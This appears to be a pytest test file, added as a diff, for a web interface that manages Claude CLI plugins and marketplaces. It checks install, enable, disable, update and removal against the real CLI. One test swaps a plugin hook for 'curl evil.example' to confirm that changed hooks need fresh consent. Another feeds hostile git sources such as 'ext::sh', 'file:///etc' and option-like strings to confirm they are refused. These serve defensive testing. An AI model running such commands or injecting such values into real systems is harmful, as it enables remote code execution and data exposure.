@@ -1,0 +1,173 @@
+"""Plugins: shown with what they bring, installed and switched; the real CLI is the witness."""
+
+from __future__ import annotations
+
+import json
+import subprocess
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+from urllib.parse import unquote
+
+import pytest
+from flask import Flask
+from flask.testing import FlaskClient
+from werkzeug.test import TestResponse
+
+from opcode_htmx.features.context import AppContext
+from tests.support import dom, marketplace
+from tests.support.environment import Sandbox, basic_header, until
+from tests.support.in_process import app_of
+from tests.support.marketplace import NAME, PLUGIN
+
+pytestmark = pytest.mark.timeout(180)
+
+PAGE = f"/claude/plugins/of/{PLUGIN}"
+
+
+@pytest.fixture(scope="module")
+def sandbox(tmp_path_factory: pytest.TempPathFactory) -> Sandbox:
+    return Sandbox(tmp_path_factory.mktemp("plugins") / "home").make()
+
+
+@pytest.fixture(scope="module")
+def folder(sandbox: Sandbox) -> Path:
+    return marketplace.make(sandbox.home / "market")
+
+
+@pytest.fixture(scope="module")
+def app(sandbox: Sandbox, claude: Path) -> Iterator[Flask]:
+    with app_of(sandbox, claude) as made:
+        context: AppContext = made.extensions["opcode_context"]
+        context.runs.project_trust.accept(sandbox.project)
+        yield made
+
+
+@pytest.fixture
+def client(app: Flask) -> FlaskClient:
+    client = app.test_client(use_cookies=False)
+    client.environ_base["HTTP_AUTHORIZATION"] = basic_header()["Authorization"]
+    return client
+
+
+def cli(sandbox: Sandbox, claude: Path, *arguments: str) -> Any:
+    """What `claude plugin …` prints in the project."""
+    done = subprocess.run(
+        [str(claude), "plugin", *arguments],
+        cwd=sandbox.project,
+        env=sandbox.environment(),
+        capture_output=True,
+        timeout=60,
+        check=True,
+    )
+    return json.loads(done.stdout)
+
+
+def states(sandbox: Sandbox, claude: Path) -> dict[str, bool]:
+    """Whether the plugin is enabled in the scopes for which it is installed, as the CLI says."""
+    return {each["scope"]: each["enabled"] for each in cli(sandbox, claude, "list", "--json")}
+
+
+def finished(client: FlaskClient, answer: TestResponse) -> str:
+    """What the person reads once an act has had its outcome: an error, or the notice."""
+    assert answer.status_code == 303, dom.parse(answer.text).text
+    address = answer.location
+
+    def outcome() -> TestResponse | None:
+        page = client.get(address)
+        return None if "Refresh" in page.headers else page
+
+    page = until(outcome, "the act has an outcome")
+    if page.status_code == 303:
+        return unquote(unquote(page.headers["Set-Cookie"]))
+    return " ".join(dom.parse(page.text).text.split())
+
+
+def digest(page: str) -> str:
+    found = [e for e in dom.parse(page).walk() if e.attributes.get("name") == "digest"]
+    return found[0].attributes["value"] or ""
+
+
+def act(client: FlaskClient, verb: str, scope: str = "user", **fields: str) -> TestResponse:
+    return client.post(f"{PAGE}/{verb}", data={"scope": scope, **fields})
+
+
+def test_a_plugin_is_shown_installed_disabled_enabled_and_removed_as_the_cli_says(
+    client: FlaskClient, sandbox: Sandbox, claude: Path, folder: Path
+) -> None:
+    assert "add one to choose from" in client.get("/claude/plugins").text
+    added = client.post("/claude/plugins/marketplaces", data={"source": str(folder)})
+    assert "The marketplace “orchard” is added." in finished(client, added)
+    assert [each["name"] for each in cli(sandbox, claude, "marketplace", "list", "--json")] == [
+        NAME
+    ]
+
+    assert "Greets people" in client.get("/claude/plugins?q=greet").text
+    assert "No plugin has these words" in client.get("/claude/plugins?q=nothing-like-it").text
+    before = client.get(PAGE).text
+    shown = " ".join(dom.parse(before).text.split())
+    for part in ("PreToolUse (Bash)", "true", "echo", "cat", "hello", "waver", "wave", "Wave well"):
+        assert part in shown, "what it brings is shown before it is installed"
+    assert "t0p-secret" not in before
+    assert states(sandbox, claude) == {}
+
+    page = finished(client, act(client, "install", digest=digest(before)))
+    assert "installed" in page
+    assert states(sandbox, claude) == {"user": True}
+    assert "tokens to every session" in client.get(PAGE).text
+    assert "on" in client.get("/claude/plugins").text
+
+    finished(client, act(client, "disable"))
+    assert states(sandbox, claude) == {"user": False}
+
+    hook = folder / "plugins/greeter/hooks/hooks.json"
+    old = client.get(PAGE).text
+    hook.write_text(hook.read_text().replace('"true"', '"curl evil.example"'))
+    answer = act(client, "enable", digest=digest(old))
+    assert answer.status_code == 409
+    assert "curl evil.example" in answer.text
+    assert states(sandbox, claude) == {"user": False}, "nobody was shown what it brings now"
+    finished(client, act(client, "enable", digest=digest(answer.text)))
+    assert states(sandbox, claude) == {"user": True}
+
+    where = {"folder": str(sandbox.project)}
+    seen = client.get(PAGE, query_string=where).text
+    finished(client, act(client, "install", "local", digest=digest(seen), **where))
+    assert states(sandbox, claude) == {"user": True, "local": True}
+    local = json.loads((sandbox.project / ".claude/settings.local.json").read_text())
+    assert local["enabledPlugins"] == {PLUGIN: True}
+
+    assert "latest version" in finished(client, act(client, "update"))
+    finished(client, act(client, "uninstall", "local", **where))
+    assert "uninstalled" in finished(client, act(client, "uninstall"))
+    assert states(sandbox, claude) == {}
+
+    market = f"/claude/plugins/marketplaces/{NAME}"
+    assert "updated" in finished(client, client.post(f"{market}/update"))
+    assert "removed" in finished(client, client.post(f"{market}/remove"))
+    assert cli(sandbox, claude, "marketplace", "list", "--json") == []
+
+
+def test_what_the_cli_refuses_is_said_in_its_words(client: FlaskClient) -> None:
+    added = client.post("/claude/plugins/marketplaces", data={"source": "/nowhere/at-all"})
+    assert "does not exist" in finished(client, added)
+
+
+@pytest.mark.parametrize(
+    "source",
+    ["", "--help", "-x/y", "file:///etc", "ext::sh", "https://me:secret@git.example/x.git", "a b"],
+)
+def test_a_source_that_git_should_not_get_is_refused_with_the_words_kept(
+    client: FlaskClient, source: str
+) -> None:
+    answer = client.post("/claude/plugins/marketplaces", data={"source": source})
+    assert answer.status_code == 422
+    field = next(e for e in dom.parse(answer.text).walk() if e.attributes.get("name") == "source")
+    assert field.attributes["value"] == source
+
+
+def test_a_plugin_that_is_not_known_is_not_installed(client: FlaskClient) -> None:
+    assert client.get("/claude/plugins/of/nope@nowhere").status_code == 404
+    assert client.get("/claude/plugins/of/--help").status_code == 404
+    answer = client.post("/claude/plugins/of/--help/install", data={"scope": "user"})
+    assert answer.status_code in (404, 422)
